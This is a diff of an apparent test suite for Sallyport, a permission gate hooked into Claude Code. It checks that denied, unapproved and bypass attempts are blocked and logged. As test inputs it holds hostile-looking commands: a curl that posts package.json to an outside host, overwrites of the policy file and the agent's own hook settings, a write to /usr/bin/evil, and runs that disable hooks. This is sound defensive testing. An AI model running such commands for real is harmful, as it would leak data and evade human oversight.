@@ -15,7 +15,7 @@ const kind: ClientKind = {
     ANTHROPIC_BASE_URL: 'http://127.0.0.1:8701',
     ANTHROPIC_API_KEY: 'sk-ant-none',
     DISABLE_AUTOUPDATER: '1',
-    // Root may skip permissions only in what calls itself a sandbox.
+    // Claude Code lets root skip permissions only in a declared sandbox.
     IS_SANDBOX: '1',
     DISABLE_TELEMETRY: '1',
     DISABLE_ERROR_REPORTING: '1',
@@ -34,251 +34,248 @@ const list = (value: unknown, key: string): readonly unknown[] => {
 
 const bash = (command: string) => ({ tool: 'Bash', input: { command, description: 'a step' } })
 
-describe.skipIf(!isInstalled(kind))(
-  'Claude Code, the real one (skipped unless `npm run test:clients` installed it)',
-  () => {
-    let client: Client
-    beforeAll(async () => {
-      client = openClient(kind)
-      await client.sallyport('install', 'claude-code', '--yes')
-    })
-    afterAll(() => client.remove())
+describe.skipIf(!isInstalled(kind))('real Claude Code (skipped unless `npm run test:clients` installed it)', () => {
+  let client: Client
+  beforeAll(async () => {
+    client = openClient(kind)
+    await client.sallyport('install', 'claude-code', '--yes')
+  })
+  afterAll(() => client.remove())
 
-    test('what is allowed runs without a prompt', async () => {
-      const ran = await client.run({ script: [bash('echo hello > allowed.txt')] })
-      expect(ran.has('allowed.txt')).toBe(true)
-    })
+  test('an allowed call runs without a prompt', async () => {
+    const ran = await client.run({ script: [bash('echo hello > allowed.txt')] })
+    expect(ran.has('allowed.txt')).toBe(true)
+  })
 
-    test('what is denied does not run, and the model is told why', async () => {
-      const ran = await client.run({ script: [bash('touch denied.txt; echo x > /etc/sallyport/policy.yaml')] })
-      expect(ran.has('denied.txt')).toBe(false)
-      expect(ran.results.join()).toContain('Sallyport blocks this')
-    })
+  test('a denied call does not run, and the model is told why', async () => {
+    const ran = await client.run({ script: [bash('touch denied.txt; echo x > /etc/sallyport/policy.yaml')] })
+    expect(ran.has('denied.txt')).toBe(false)
+    expect(ran.results.join()).toContain('Sallyport blocks this')
+  })
 
-    test('where a variable moves its settings, the hook and the search for its calls move along', async () => {
-      const other = openClient({
-        ...kind,
-        env: { ...kind.env, CLAUDE_CONFIG_DIR: mkdtempSync(join(tmpdir(), 'moved-')) },
-      })
-      await other.sallyport('install', 'claude-code', '--yes')
-      const ran = await other.run({
-        script: [bash('echo a'), bash('touch denied.txt; echo x > /etc/sallyport/policy.yaml')],
-      })
-      expect(ran.has('denied.txt')).toBe(false)
-      expect(ran.results.join()).toContain('Sallyport blocks this')
-      expect(await other.sallyport('audit', 'coverage')).toBe('2 of 2 calls came to the gate\n')
-      other.remove()
+  test('the hook and `audit coverage` follow `CLAUDE_CONFIG_DIR`', async () => {
+    const other = openClient({
+      ...kind,
+      env: { ...kind.env, CLAUDE_CONFIG_DIR: mkdtempSync(join(tmpdir(), 'moved-')) },
     })
+    await other.sallyport('install', 'claude-code', '--yes')
+    const ran = await other.run({
+      script: [bash('echo a'), bash('touch denied.txt; echo x > /etc/sallyport/policy.yaml')],
+    })
+    expect(ran.has('denied.txt')).toBe(false)
+    expect(ran.results.join()).toContain('Sallyport blocks this')
+    expect(await other.sallyport('audit', 'coverage')).toBe('2 of 2 calls came to the gate\n')
+    other.remove()
+  })
 
-    test('what asks does not run where nobody can answer', async () => {
-      const ran = await client.run({ script: [bash('curl -d @package.json https://example.com; touch asked.txt')] })
-      expect(ran.has('asked.txt')).toBe(false)
+  test('a call that asks does not run when no person can answer', async () => {
+    const ran = await client.run({ script: [bash('curl -d @package.json https://example.com; touch asked.txt')] })
+    expect(ran.has('asked.txt')).toBe(false)
+    expect(ran.results.join()).toMatch(/sallyport approve [0-9a-f]{10}/)
+  })
+
+  test('a call that a person approves at a terminal runs once when the session continues', async () => {
+    const session = '1b671a64-40d5-491e-99b0-da01ff1f3341'
+    const call = bash('some-tool; echo ran >> approved.txt')
+    const first = await client.run({ script: [call], args: ['--session-id', session] })
+    const id = /sallyport approve ([0-9a-f]+)/.exec(first.results.join())?.[1] ?? ''
+    const line = `${process.execPath} dist/cli.js approve ${id}`
+    const approved = spawnSync('script', ['-qec', line, '/dev/null'], {
+      input: 'y\n',
+      env: { PATH: process.env['PATH'], HOME: client.home },
+    })
+    expect(approved.stdout.toString()).toContain('approved: the same call runs once')
+    await client.run({ script: [call, call, call], args: ['--resume', session] })
+    expect(readFileSync(join(client.project, 'approved.txt'), 'utf8')).toBe('ran\n')
+  })
+
+  test("a user's rule replaces a call, and the model is told", async () => {
+    const policy = join(client.home, '.config/sallyport/policy.yaml')
+    client.write(policy, replacing)
+    const ran = await client.run({ script: [bash('touch replaced.txt'), bash('touch replaced.txt longer.txt')] })
+    client.write(policy, 'version: 1\n')
+    expect(['replaced.txt', 'longer.txt', 'in-its-place.txt'].map(ran.has)).toEqual([false, false, true])
+    expect(ran.results.join()).toContain('Instead: touch in-its-place.txt')
+    expect(ran.said).toContain('Running `touch in-its-place.txt` instead')
+    const recorded = await client.sallyport('audit', 'tail', '--json')
+    expect(recorded).toMatch(/run touch in-its-place.txt.*"type":"tool_call_replaced"/)
+  })
+
+  test('a deny also blocks when the client skips its own permissions', async () => {
+    const args = ['--permission-mode', 'bypassPermissions']
+    const ran = await client.run({ script: [bash('touch bypassed.txt; echo x > /etc/sallyport/policy.yaml')], args })
+    expect(ran.has('bypassed.txt')).toBe(false)
+  })
+
+  test('file tools pass the gate too', async () => {
+    const script = [{ tool: 'Write', input: { file_path: '/usr/bin/evil', content: 'evil' } }]
+    const ran = await client.run({ script })
+    expect(ran.results.join()).toContain('Sallyport blocks this')
+  })
+
+  test("the agent cannot change its own hook's settings", async () => {
+    const settings = join(client.home, '.claude/settings.json')
+    const before = readFileSync(settings, 'utf8')
+    const ran = await client.run({
+      script: [bash(`echo '{}' > ${settings}`)],
+      args: ['--permission-mode', 'bypassPermissions'],
+    })
+    expect(ran.results.join()).toContain('Sallyport blocks this')
+    expect(readFileSync(settings, 'utf8')).toBe(before)
+  })
+
+  describe('tools of an MCP server', () => {
+    const server = resolve(import.meta.dirname, 'mcp-server.mjs')
+    const mcp = () => [
+      '--mcp-config',
+      JSON.stringify({
+        mcpServers: { notes: { command: process.execPath, args: [server, join(client.project, 'notes.txt')] } },
+      }),
+    ]
+    const script = [{ tool: 'mcp__notes__note', input: { text: 'hello' } }]
+
+    test('ask, because their effects are unknown', async () => {
+      const ran = await client.run({ script, args: mcp() })
+      expect(ran.has('notes.txt')).toBe(false)
       expect(ran.results.join()).toMatch(/sallyport approve [0-9a-f]{10}/)
     })
 
-    test('what a person approves at a terminal runs once when the session goes on', async () => {
-      const session = '1b671a64-40d5-491e-99b0-da01ff1f3341'
-      const call = bash('some-tool; echo ran >> approved.txt')
-      const first = await client.run({ script: [call], args: ['--session-id', session] })
-      const id = /sallyport approve ([0-9a-f]+)/.exec(first.results.join())?.[1] ?? ''
-      const line = `${process.execPath} dist/cli.js approve ${id}`
-      const approved = spawnSync('script', ['-qec', line, '/dev/null'], {
-        input: 'y\n',
-        env: { PATH: process.env['PATH'], HOME: client.home },
-      })
-      expect(approved.stdout.toString()).toContain('approved: the same call runs once')
-      await client.run({ script: [call, call, call], args: ['--resume', session] })
-      expect(readFileSync(join(client.project, 'approved.txt'), 'utf8')).toBe('ran\n')
+    test("run when a user's rule allows them", async () => {
+      const policy = 'version: 1\nrules:\n  - { when: { tool: "mcp__notes__*" }, then: allow }\n'
+      client.write(join(client.home, '.config/sallyport/policy.yaml'), policy)
+      const ran = await client.run({ script, args: mcp() })
+      expect(ran.has('notes.txt')).toBe(true)
     })
+  })
 
-    test('a rule of the user puts another command in the place of a call, and the model is told', async () => {
-      const policy = join(client.home, '.config/sallyport/policy.yaml')
-      client.write(policy, replacing)
-      const ran = await client.run({ script: [bash('touch replaced.txt'), bash('touch replaced.txt longer.txt')] })
-      client.write(policy, 'version: 1\n')
-      expect(['replaced.txt', 'longer.txt', 'in-its-place.txt'].map(ran.has)).toEqual([false, false, true])
-      expect(ran.results.join()).toContain('Instead: touch in-its-place.txt')
-      expect(ran.said).toContain('Not this runs but: touch in-its-place.txt')
-      const recorded = await client.sallyport('audit', 'tail', '--json')
-      expect(recorded).toMatch(/run touch in-its-place.txt.*"type":"tool_call_replaced"/)
+  test("a sub-agent's calls pass the same gate, and the journal names the agent", async () => {
+    const task = { description: 'sub', prompt: 'SUB-AGENT: do it', subagent_type: 'general-purpose' }
+    const ran = await client.run({
+      script: [
+        { tool: 'Task', input: task },
+        { ...bash('echo hello > sub-allowed.txt'), sub: true },
+        { ...bash('touch sub-denied.txt; echo x > /etc/sallyport/policy.yaml'), sub: true },
+      ],
     })
+    expect([ran.has('sub-allowed.txt'), ran.has('sub-denied.txt')]).toEqual([true, false])
+    expect(await client.sallyport('audit', 'tail', '--json')).toMatch(/"agents":\["general-purpose:/)
+  })
 
-    test('a deny holds although the client was told to skip its permissions', async () => {
-      const args = ['--permission-mode', 'bypassPermissions']
-      const ran = await client.run({ script: [bash('touch bypassed.txt; echo x > /etc/sallyport/policy.yaml')], args })
-      expect(ran.has('bypassed.txt')).toBe(false)
+  test('a hook that cannot start blocks the call', async () => {
+    const settings = join(client.home, '.claude/settings.json')
+    const before = readFileSync(settings, 'utf8')
+    client.write(settings, before.replace(process.execPath, '/nonexistent/node'))
+    const ran = await client.run({
+      script: [bash('touch broken.txt')],
+      args: ['--permission-mode', 'bypassPermissions'],
     })
+    client.write(settings, before)
+    expect(ran.has('broken.txt')).toBe(false)
+    expect(ran.results.join()).toContain('could not run')
+  })
 
-    test('file tools pass the gate too', async () => {
-      const script = [{ tool: 'Write', input: { file_path: '/usr/bin/evil', content: 'evil' } }]
-      const ran = await client.run({ script })
-      expect(ran.results.join()).toContain('Sallyport blocks this')
-    })
-
-    test("the agent cannot change its own hook's settings", async () => {
-      const settings = join(client.home, '.claude/settings.json')
-      const before = readFileSync(settings, 'utf8')
-      const ran = await client.run({
-        script: [bash(`echo '{}' > ${settings}`)],
-        args: ['--permission-mode', 'bypassPermissions'],
-      })
-      expect(ran.results.join()).toContain('Sallyport blocks this')
-      expect(readFileSync(settings, 'utf8')).toBe(before)
-    })
-
-    describe('tools of an MCP server', () => {
-      const server = resolve(import.meta.dirname, 'mcp-server.mjs')
-      const mcp = () => [
-        '--mcp-config',
-        JSON.stringify({
-          mcpServers: { notes: { command: process.execPath, args: [server, join(client.project, 'notes.txt')] } },
-        }),
-      ]
-      const script = [{ tool: 'mcp__notes__note', input: { text: 'hello' } }]
-
-      test('ask, since nobody knows what they do', async () => {
-        const ran = await client.run({ script, args: mcp() })
-        expect(ran.has('notes.txt')).toBe(false)
-        expect(ran.results.join()).toMatch(/sallyport approve [0-9a-f]{10}/)
-      })
-
-      test('run when a rule of the user allows them', async () => {
-        const policy = 'version: 1\nrules:\n  - { when: { tool: "mcp__notes__*" }, then: allow }\n'
-        client.write(join(client.home, '.config/sallyport/policy.yaml'), policy)
-        const ran = await client.run({ script, args: mcp() })
-        expect(ran.has('notes.txt')).toBe(true)
-      })
-    })
-
-    test('a sub-agent stands before the same gate, and the journal knows which agent it was', async () => {
-      const task = { description: 'sub', prompt: 'SUB-AGENT: do it', subagent_type: 'general-purpose' }
-      const ran = await client.run({
-        script: [
-          { tool: 'Task', input: task },
-          { ...bash('echo hello > sub-allowed.txt'), sub: true },
-          { ...bash('touch sub-denied.txt; echo x > /etc/sallyport/policy.yaml'), sub: true },
-        ],
-      })
-      expect([ran.has('sub-allowed.txt'), ran.has('sub-denied.txt')]).toEqual([true, false])
-      expect(await client.sallyport('audit', 'tail', '--json')).toMatch(/"agents":\["general-purpose:/)
-    })
-
-    test('when the hook cannot even start, the call is blocked', async () => {
-      const settings = join(client.home, '.claude/settings.json')
-      const before = readFileSync(settings, 'utf8')
-      client.write(settings, before.replace(process.execPath, '/nonexistent/node'))
-      const ran = await client.run({
-        script: [bash('touch broken.txt')],
-        args: ['--permission-mode', 'bypassPermissions'],
-      })
-      client.write(settings, before)
-      expect(ran.has('broken.txt')).toBe(false)
-      expect(ran.results.join()).toContain('could not run')
-    })
-
-    describe('over HTTP', () => {
-      let other: Client
-      const hookAt = (path: string, more: object = { onFailure: 'block' }) =>
-        other.write(
-          join(other.home, '.claude/settings.json'),
-          JSON.stringify({
-            hooks: {
-              PreToolUse: [
-                { matcher: '*', hooks: [{ type: 'http', url: `http://127.0.0.1:${path}`, timeout: 30, ...more }] },
-              ],
-            },
-          }),
-        )
-      const run = (command: string) =>
-        other.run({ script: [bash(command)], args: ['--permission-mode', 'bypassPermissions'] })
-      beforeAll(() => {
-        const server = resolve(import.meta.dirname, 'http-hook.mjs')
-        other = openClient({
-          ...kind,
-          binary: process.execPath,
-          args: project => [server, kind.binary, ...kind.args(project)],
-        })
-      })
-      afterAll(() => other.remove())
-
-      test('what is allowed runs, what is denied does not, and the model is told why', async () => {
-        hookAt('8705/')
-        expect((await run('touch allowed.txt')).has('allowed.txt')).toBe(true)
-        const denied = await run('touch denied.txt; echo x > /etc/sallyport/policy.yaml')
-        expect(denied.has('denied.txt')).toBe(false)
-        expect(denied.results.join()).toContain('Sallyport blocks this')
-      })
-
-      test('what breaks blocks, without `onFailure` too', async () => {
-        const policy = join(other.home, '.config/sallyport/policy.yaml')
-        hookAt('8705/', {})
-        other.write(policy, 'version: 1\nrulez: []\n')
-        const ran = await run('touch broken.txt')
-        other.write(policy, 'version: 1\n')
-        expect(ran.has('broken.txt')).toBe(false)
-        expect(ran.results.join()).toContain('unknown key `rulez`')
-      })
-
-      test.each([
-        ['an error', '8705/error', 'is blocked', 'runs'],
-        ['no server', '1/', 'is blocked', 'runs'],
-        ['no JSON', '8705/no-json', 'is blocked', 'runs'],
-        ['nothing', '8705/empty', 'runs', 'runs'],
-      ])('what happens where the answer is %s is as SECURITY.md says', async (what, path, blocking, otherwise) => {
-        hookAt(path)
-        const first = await run(`touch '${what} 1'`)
-        hookAt(path, {})
-        const second = await run(`touch '${what} 2'`)
-        const outcomes = [first.has(`${what} 1`), second.has(`${what} 2`)].map(has => (has ? 'runs' : 'is blocked'))
-        expect(outcomes).toEqual([blocking, otherwise])
-      })
-    })
-
-    test('a call that is deferred runs after all if it did not come alone: the hook never defers', async () => {
-      const other = openClient(kind)
-      const said = { hookSpecificOutput: { hookEventName: 'PreToolUse', permissionDecision: 'defer' } }
-      const hook = { type: 'command', command: `echo '${JSON.stringify(said)}'`, onFailure: 'block' }
+  describe('over HTTP', () => {
+    let other: Client
+    const hookAt = (path: string, more: object = { onFailure: 'block' }) =>
       other.write(
         join(other.home, '.claude/settings.json'),
-        JSON.stringify({ hooks: { PreToolUse: [{ matcher: '*', hooks: [hook] }] } }),
+        JSON.stringify({
+          hooks: {
+            PreToolUse: [
+              { matcher: '*', hooks: [{ type: 'http', url: `http://127.0.0.1:${path}`, timeout: 30, ...more }] },
+            ],
+          },
+        }),
       )
-      const args = ['--allowedTools', 'Bash']
-      const alone = await other.run({ script: [bash('touch alone.txt')], args })
-      const pair = { ...bash('touch one.txt'), beside: [bash('touch two.txt')] }
-      const together = await other.run({ script: [{ ...pair, whole: true }], args })
-      const files = [alone.has('alone.txt'), together.has('one.txt'), together.has('two.txt')]
-      other.remove()
-      expect(files).toEqual([false, true, true])
-    })
-
-    test('calls of a session that switched hooks off are found', async () => {
-      const other = openClient(kind)
-      await other.sallyport('install', 'claude-code', '--yes')
-      await other.run({ script: [bash('echo a')] })
-      expect(await other.sallyport('audit', 'coverage')).toBe('1 of 1 calls came to the gate\n')
-      // The fake model counts its ids from the start in each run: only the second call is new.
-      const args = ['--settings', '{"disableAllHooks":true}', '--permission-mode', 'bypassPermissions']
-      await other.run({ script: [bash('echo a'), bash('echo b')], args })
-      await expect(other.sallyport('audit', 'coverage')).rejects.toThrow('1 of 2 calls came to the gate')
-      other.remove()
-    })
-
-    test('the doctor sees a call of the client itself come to the gate', async () => {
-      const doctor = openClient({
+    const run = (command: string) =>
+      other.run({ script: [bash(command)], args: ['--permission-mode', 'bypassPermissions'] })
+    beforeAll(() => {
+      const server = resolve(import.meta.dirname, 'http-hook.mjs')
+      other = openClient({
         ...kind,
         binary: process.execPath,
-        args: () => [resolve('dist/cli.js'), 'doctor', '--client'],
-        env: { ...kind.env, PATH: `${join(kind.binary, '..')}:${process.env['PATH']}` },
+        args: project => [server, kind.binary, ...kind.args(project)],
       })
-      await doctor.sallyport('install', 'claude-code', '--yes')
-      const { out, code } = await doctor.run({ script: [{ ...bash(''), ordered: true }] })
-      doctor.remove()
-      expect(out).toContain('a call of the client itself came to the gate')
-      expect(code, out).toBe(0)
+    })
+    afterAll(() => other.remove())
+
+    test('an allowed call runs, a denied one does not, and the model is told why', async () => {
+      hookAt('8705/')
+      expect((await run('touch allowed.txt')).has('allowed.txt')).toBe(true)
+      const denied = await run('touch denied.txt; echo x > /etc/sallyport/policy.yaml')
+      expect(denied.has('denied.txt')).toBe(false)
+      expect(denied.results.join()).toContain('Sallyport blocks this')
     })
 
-    test('the journal holds every call, and its chain is whole', async () => {
-      expect(await client.sallyport('audit', 'verify')).toMatch(/^OK/)
+    test('a failure blocks, even without `onFailure`', async () => {
+      const policy = join(other.home, '.config/sallyport/policy.yaml')
+      hookAt('8705/', {})
+      other.write(policy, 'version: 1\nrulez: []\n')
+      const ran = await run('touch broken.txt')
+      other.write(policy, 'version: 1\n')
+      expect(ran.has('broken.txt')).toBe(false)
+      expect(ran.results.join()).toContain('unknown key `rulez`')
     })
-  },
-)
+
+    test.each([
+      ['an error', '8705/error', 'is blocked', 'runs'],
+      ['no answer', '1/', 'is blocked', 'runs'],
+      ['invalid JSON', '8705/no-json', 'is blocked', 'runs'],
+      ['an empty answer', '8705/empty', 'runs', 'runs'],
+    ])('with %s from the server, the client behaves as SECURITY.md says', async (what, path, blocking, otherwise) => {
+      hookAt(path)
+      const first = await run(`touch '${what} 1'`)
+      hookAt(path, {})
+      const second = await run(`touch '${what} 2'`)
+      const outcomes = [first.has(`${what} 1`), second.has(`${what} 2`)].map(has => (has ? 'runs' : 'is blocked'))
+      expect(outcomes).toEqual([blocking, otherwise])
+    })
+  })
+
+  test('a deferred call still runs if it is one of several, which is why the hook never defers', async () => {
+    const other = openClient(kind)
+    const said = { hookSpecificOutput: { hookEventName: 'PreToolUse', permissionDecision: 'defer' } }
+    const hook = { type: 'command', command: `echo '${JSON.stringify(said)}'`, onFailure: 'block' }
+    other.write(
+      join(other.home, '.claude/settings.json'),
+      JSON.stringify({ hooks: { PreToolUse: [{ matcher: '*', hooks: [hook] }] } }),
+    )
+    const args = ['--allowedTools', 'Bash']
+    const alone = await other.run({ script: [bash('touch alone.txt')], args })
+    const pair = { ...bash('touch one.txt'), beside: [bash('touch two.txt')] }
+    const together = await other.run({ script: [{ ...pair, whole: true }], args })
+    const files = [alone.has('alone.txt'), together.has('one.txt'), together.has('two.txt')]
+    other.remove()
+    expect(files).toEqual([false, true, true])
+  })
+
+  test('`audit coverage` finds the calls of a session without hooks', async () => {
+    const other = openClient(kind)
+    await other.sallyport('install', 'claude-code', '--yes')
+    await other.run({ script: [bash('echo a')] })
+    expect(await other.sallyport('audit', 'coverage')).toBe('1 of 1 calls came to the gate\n')
+    // The fake model restarts its ids in each run, so only the second call is new.
+    const args = ['--settings', '{"disableAllHooks":true}', '--permission-mode', 'bypassPermissions']
+    await other.run({ script: [bash('echo a'), bash('echo b')], args })
+    await expect(other.sallyport('audit', 'coverage')).rejects.toThrow('1 of 2 calls came to the gate')
+    other.remove()
+  })
+
+  test('`doctor --client` confirms that a call of the client reaches the gate', async () => {
+    const doctor = openClient({
+      ...kind,
+      binary: process.execPath,
+      args: () => [resolve('dist/cli.js'), 'doctor', '--client'],
+      env: { ...kind.env, PATH: `${join(kind.binary, '..')}:${process.env['PATH']}` },
+    })
+    await doctor.sallyport('install', 'claude-code', '--yes')
+    const { out, code } = await doctor.run({ script: [{ ...bash(''), ordered: true }] })
+    doctor.remove()
+    expect(out).toContain('a call of the client itself came to the gate')
+    expect(code, out).toBe(0)
+  })
+
+  test('the journal is intact at the end', async () => {
+    expect(await client.sallyport('audit', 'verify')).toMatch(/^OK/)
+  })
+})
